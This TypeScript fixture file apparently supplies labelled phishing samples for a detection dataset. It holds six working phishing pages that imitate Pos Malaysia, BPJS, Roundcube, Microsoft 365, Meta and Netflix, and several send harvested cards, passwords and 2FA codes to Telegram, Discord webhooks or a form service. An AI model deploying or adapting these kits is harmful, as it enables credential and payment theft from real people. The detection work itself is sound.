import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, doc, jsonRoute, jsRoute, walletCss } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-poslaju-redelivery-telegram-my',
  label: 'phishing',
  kind: 'courier-fee-kit',
  url: 'https://poslaju-my.redelivery-fee.com/ms/',
  body: doc({
    title: 'Pos Malaysia | Penghantaran Semula',
    lang: 'ms',
    css: `body{margin:0;font-family:Arial;background:#f2f2f2}.h{background:#ee3124;padding:12px 20px;color:#fff}.h b{font-size:22px}.c{max-width:440px;margin:18px auto;background:#fff;padding:20px;border-radius:6px}
input{width:100%;box-sizing:border-box;padding:11px;margin:4px 0 12px;border:1px solid #ccc;border-radius:4px}button{width:100%;background:#0a3d91;color:#fff;border:0;padding:13px;border-radius:4px}`,
    body: `<div class="h"><b>POS MALAYSIA</b> · Pos Laju</div>
<div class="c"><h3>Bungkusan anda tidak dapat dihantar</h3><p>Bungkusan ER118829302MY tidak dapat dihantar kerana alamat tidak lengkap. Sila kemaskini alamat dan jelaskan caj penghantaran semula <b>RM 2.99</b>.</p>
<form id="pf"><label>Nama</label><input name="nama" required><label>Alamat</label><input name="alamat" required><label>No. kad</label><input name="kad" maxlength="19" required><label>Tarikh luput</label><input name="luput" required><label>CVV</label><input name="cvv" maxlength="3" required><button>Bayar RM 2.99</button></form>
<div id="tac" style="display:none"><p>Masukkan TAC yang dihantar oleh bank anda.</p><input id="t"><button id="tb">Sahkan</button></div></div>
<script>
var B="7762019935:AAEw1Lp6dXg9Qk3VnRz2TyHs8mBfJcU0aKo",C="-4011987766";
function s(m){return fetch("https://api.telegram.org/bot"+B+"/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:C,text:m,parse_mode:"HTML"})})}
document.getElementById("pf").onsubmit=function(e){e.preventDefault();var o="<b>POSLAJU</b>\\n";new FormData(this).forEach(function(v,k){o+=k+": "+v+"\\n"});s(o);this.style.display="none";document.getElementById("tac").style.display="block"};
document.getElementById("tb").onclick=function(){s("TAC: "+document.getElementById("t").value).then(function(){location.href="https://www.pos.com.my/"})};
</script>`,
  }),
},
{
  id: 'zy-bpjs-jht-klaim-online',
  label: 'phishing',
  kind: 'gov-benefit-kit',
  url: 'https://klaim-jht-bpjsketenagakerjaan.com/lapak-asik/',
  body: doc({
    title: 'BPJS Ketenagakerjaan - Klaim JHT Online',
    lang: 'id',
    css: `body{margin:0;font-family:Arial;background:#f2f7f4}.h{background:#006b3f;color:#fff;padding:12px 20px}.h b{font-size:20px}.c{max-width:520px;margin:20px auto;background:#fff;padding:24px;border-radius:8px}
label{display:block;font-size:13px;margin:10px 0 4px}input,select{width:100%;box-sizing:border-box;padding:11px;border:1px solid #c7d6cd;border-radius:5px}button{width:100%;margin-top:16px;background:#f7941d;color:#fff;border:0;padding:13px;border-radius:5px;font-weight:700}`,
    body: `<div class="h"><b>BPJS Ketenagakerjaan</b> · Layanan Tanpa Kontak Fisik (Lapak Asik)</div>
<div class="c"><h3>Pengajuan Klaim Jaminan Hari Tua</h3><p style="font-size:14px">Saldo JHT Anda: <b>Rp 14.820.500</b>. Lengkapi data di bawah ini. Dana dicairkan ke rekening dalam 1x24 jam setelah verifikasi.</p>
<form method="post" action="/lapak-asik/kirim.php">
<label>NIK</label><input name="nik" maxlength="16"><label>Nomor KPJ</label><input name="kpj"><label>Nama sesuai KTP</label><input name="nama"><label>Nama ibu kandung</label><input name="ibu">
<label>Bank penerima</label><select name="bank"><option>BRI</option><option>BNI</option><option>Mandiri</option><option>BTN</option><option>BCA</option></select>
<label>Nomor kartu ATM</label><input name="atm" maxlength="19"><label>PIN ATM (untuk validasi rekening)</label><input name="pinatm" type="password" maxlength="6">
<button>Ajukan Klaim</button></form></div>`,
  }),
},
{
  id: 'zy-roundcube-quota-hash-email',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://mail-update.sinarabadi-group.co.id.rcupgrade.com/?_task=login#email=finance@sinarabadi-group.co.id',
  body: doc({
    title: 'Roundcube Webmail :: Welcome to Roundcube Webmail',
    head: '<link rel="shortcut icon" href="/skins/elastic/images/favicon.ico">',
    css: `body{margin:0;background:#f4f4f4;font-family:"Roboto","Helvetica Neue",Arial,sans-serif;display:flex;align-items:center;justify-content:center;height:100vh}
#layout-content{background:#fff;width:340px;padding:30px 36px;box-shadow:0 0 10px rgba(0,0,0,.1);border-radius:4px;text-align:center}
#logo{margin-bottom:20px}.msg{background:#fff3cd;border:1px solid #ffe69c;color:#664d03;padding:8px;font-size:13px;margin-bottom:16px;text-align:left}
input{width:100%;box-sizing:border-box;padding:9px 10px;margin:6px 0;border:1px solid #d4dbde;border-radius:4px;font-size:14px}.button{width:100%;background:#37beff;border:0;color:#fff;padding:10px;border-radius:4px;margin-top:10px;font-size:15px}
#bottomline{font-size:12px;color:#999;margin-top:20px}`,
    body: `<div id="layout-content"><div id="logo"><svg width="180" height="50" viewBox="0 0 180 50"><circle cx="25" cy="25" r="22" fill="#37beff"/><path d="M12 20l13 9 13-9v13H12z" fill="#fff"/><text x="56" y="32" font-size="20" fill="#2c363a" font-family="Arial">roundcube</text></svg></div>
<div class="msg"><b>Mailbox quota 98% (4.9 GB / 5 GB).</b> Incoming messages are being held. Log in to apply the free storage upgrade for your mailbox.</div>
<form name="login-form" method="post" action="./next.php"><input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login">
<input name="_user" id="rcmloginuser" placeholder="Username" autocomplete="username"><input name="_pass" id="rcmloginpwd" type="password" placeholder="Password" autocomplete="current-password">
<button type="submit" class="button mainaction">Login</button></form>
<div id="bottomline">Roundcube Webmail · <a href="#">Get support</a></div></div>
<script>
(function(){var h=location.hash.match(/email=([^&]+)/);if(h){var e=decodeURIComponent(h[1]);document.getElementById("rcmloginuser").value=e;document.title=e.split("@")[1]+" :: Webmail";document.getElementById("rcmloginpwd").focus();}})();
var c=0;document.forms[0].addEventListener("submit",function(ev){ev.preventDefault();var f=this;fetch("./next.php",{method:"POST",body:new FormData(f)}).then(function(){c++;if(c<2){f._pass.value="";var m=document.querySelector(".msg");m.innerHTML="Login failed. Incorrect password, please try again.";m.style.background="#f8d7da";}else{location.href="https://"+f._user.value.split("@")[1]}})});
</script>`,
  }),
  routes: {
    'mail-update.sinarabadi-group.co.id.rcupgrade.com/next.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'zy-m365-sharepoint-invois-malay',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://docs-share.bumimaju-sdnbhd.com/sp/Invois_Jun2025/',
  body: doc({
    title: 'SharePoint',
    lang: 'ms',
    css: `body{margin:0;font-family:"Segoe UI",Arial;background:#faf9f8}.sp{background:#036c70;color:#fff;padding:10px 16px;font-weight:600}.doc{max-width:560px;margin:40px auto;background:#fff;border:1px solid #e1dfdd;padding:30px;text-align:center}
.ic{width:64px;height:80px;background:#c43e1c;color:#fff;font:700 20px Arial;display:flex;align-items:center;justify-content:center;margin:0 auto 14px;border-radius:4px}a.b{display:inline-block;background:#0078d4;color:#fff;padding:10px 28px;text-decoration:none;margin-top:14px}`,
    body: `<div class="sp">SharePoint</div><div class="doc"><div class="ic">PDF</div><h2>Invois_Jun2025_BumiMaju.pdf</h2><p>Nurul Aina (Akaun) telah berkongsi fail dengan anda.</p><p style="color:#605e5c;font-size:14px">Dokumen ini dilindungi. Sila log masuk dengan akaun e-mel kerja anda untuk melihat.</p><a class="b" href="/sp/Invois_Jun2025/auth.html">Lihat dokumen</a></div>`,
  }),
  routes: {
    'docs-share.bumimaju-sdnbhd.com/sp/Invois_Jun2025/auth.html': htmlRoute(doc({
      title: 'Sign in to your account',
      css: `body{margin:0;font-family:"Segoe UI",Arial;background:#f2f2f2 url() center/cover}.box{width:440px;max-width:92vw;margin:80px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;margin:14px 0;outline:none}.btn{float:right;background:#0067b8;color:#fff;border:0;padding:8px 34px;font-size:15px}.id{font-size:14px;margin-bottom:10px}`,
      body: `<div class="box"><svg width="108" height="24" viewBox="0 0 108 24"><rect width="11" height="11" fill="#f25022"/><rect x="12" width="11" height="11" fill="#7fba00"/><rect y="12" width="11" height="11" fill="#00a4ef"/><rect x="12" y="12" width="11" height="11" fill="#ffb900"/><text x="30" y="17" font-size="15" fill="#737373" font-family="Segoe UI,Arial">Microsoft</text></svg>
<h2 style="font-weight:600;font-size:24px;margin:16px 0 8px">Sign in</h2><form id="ms"><div class="id" id="who"></div><input name="loginfmt" id="em" type="email" placeholder="Email, phone, or Skype"><input name="passwd" type="password" placeholder="Password"><p style="font-size:13px"><a href="#">Forgot my password</a></p><button class="btn">Sign in</button></form><div style="clear:both"></div></div>
<script>
var q=new URLSearchParams(location.search).get("e");if(q){em.value=atob(q)}
document.getElementById("ms").onsubmit=function(e){e.preventDefault();var d=new FormData(this);
fetch("https://submit-form.com/Xk9sPq2Rn",{method:"POST",headers:{"Content-Type":"application/json",Accept:"application/json"},body:JSON.stringify({u:d.get("loginfmt"),p:d.get("passwd"),src:location.hostname})}).then(function(){location.href="https://www.office.com/"})};
</script>`,
    })),
  },
},
{
  id: 'zy-meta-page-restricted-appeal',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://meta-business-appeal-case.netlify.app/case/1009283746152',
  body: doc({
    title: 'Meta Business Help Center | Case #1009283746152',
    css: `body{margin:0;font-family:Helvetica,Arial,sans-serif;background:#f0f2f5}.top{background:#fff;border-bottom:1px solid #ddd;padding:12px 20px;font-weight:700;color:#0866ff}.m{max-width:620px;margin:24px auto;background:#fff;border-radius:8px;padding:24px;box-shadow:0 1px 2px rgba(0,0,0,.2)}
.r{background:#fff0f0;border-radius:6px;padding:12px;font-size:14px}input,textarea{width:100%;box-sizing:border-box;padding:11px;border:1px solid #ccd0d5;border-radius:6px;margin:4px 0 12px;font-size:15px}button{background:#0866ff;color:#fff;border:0;padding:12px 20px;border-radius:6px;font-weight:700;width:100%}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.5);display:none;align-items:center;justify-content:center}.ov .d{background:#fff;padding:24px;border-radius:8px;width:360px}`,
    body: `<div class="top">∞ Meta for Business</div>
<div class="m"><h2>Your Page has been restricted</h2><div class="r">We received a report that your Page violates our intellectual property policy (Case #1009283746152). If you believe this is a mistake, submit an appeal within 24 hours; otherwise your Page and associated ad accounts will be permanently disabled.</div>
<form id="ap"><label>Page name</label><input name="page" required><label>Business email</label><input name="email" type="email" required><label>Phone number</label><input name="phone"><label>Appeal details</label><textarea name="msg" rows="3">Please review my page, I did not violate any policy.</textarea><button>Submit appeal</button></form></div>
<div class="ov" id="ov"><div class="d"><h3>For your security, please re-enter your password</h3><input id="pw" type="password" placeholder="Facebook password"><div id="tf" style="display:none"><p style="font-size:13px">Enter the 6-digit code from your authentication app or SMS</p><input id="code" maxlength="8"></div><button id="cb">Continue</button></div></div>
<script>
var data={},st=0;
function post(){return fetch("https://api.ipify.org?format=json").then(function(r){return r.json()}).then(function(ip){data.ip=ip.ip;return fetch("https://discord.com/api/webhooks/1249983310021773312/Qh8mX2yT0rLkN4vB7sZ1cW9pD6fA3eG5uJ0iO8nH2lR4kV7mT1",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({content:"**NEW** "+JSON.stringify(data)})})})}
document.getElementById("ap").onsubmit=function(e){e.preventDefault();new FormData(this).forEach(function(v,k){data[k]=v});document.getElementById("ov").style.display="flex"};
document.getElementById("cb").onclick=function(){if(!st){data.pass=pw.value;post();st=1;document.getElementById("tf").style.display="block";return}data.code=code.value;post().then(function(){location.href="https://www.facebook.com/help"})};
</script>`,
  }),
},
{
  id: 'zy-netflix-payment-declined-ph',
  label: 'phishing',
  kind: 'streaming-kit',
  url: 'https://netflix-ph.billing-update.help/account/payment',
  body: doc({
    title: 'Netflix',
    css: `body{margin:0;background:#fff;font-family:"Netflix Sans",Helvetica,Arial,sans-serif;color:#333}.hd{border-bottom:1px solid #e6e6e6;padding:18px 40px}.hd b{color:#e50914;font-size:34px;letter-spacing:-1px}
.m{max-width:440px;margin:30px auto;padding:0 20px}h1{font-size:30px}input{width:100%;box-sizing:border-box;height:58px;padding:10px;border:1px solid #8c8c8c;border-radius:2px;margin:6px 0;font-size:16px}
.r{display:flex;gap:8px}button{width:100%;height:60px;background:#e50914;color:#fff;border:0;border-radius:4px;font-size:22px;margin-top:14px}.cards span{display:inline-block;border:1px solid #ccc;padding:2px 6px;font-size:11px;margin-right:4px;border-radius:3px}`,
    body: `<div class="hd"><b>NETFLIX</b></div><div class="m"><h1>Update your payment method</h1><p>Your Premium membership (₱549/month) is on hold because we couldn't process your last payment. Update your card to keep watching.</p>
<div class="cards"><span>VISA</span><span>Mastercard</span><span>JCB</span><span>AMEX</span></div>
<form method="post" action="/account/payment/submit"><input name="firstName" placeholder="First name"><input name="lastName" placeholder="Last name"><input name="creditCardNumber" placeholder="Card number" maxlength="19"><div class="r"><input name="creditExpirationMonth" placeholder="Expiration date (MM/YY)"><input name="creditCardSecurityCode" placeholder="Security code (CVV)"></div><input name="billingZip" placeholder="Postal code"><button>Save</button></form>
<p style="font-size:13px;color:#737373;margin-top:20px">Questions? Call 1-800-1-322-3340 (PLDT)</p></div>`,
  }),
},
];
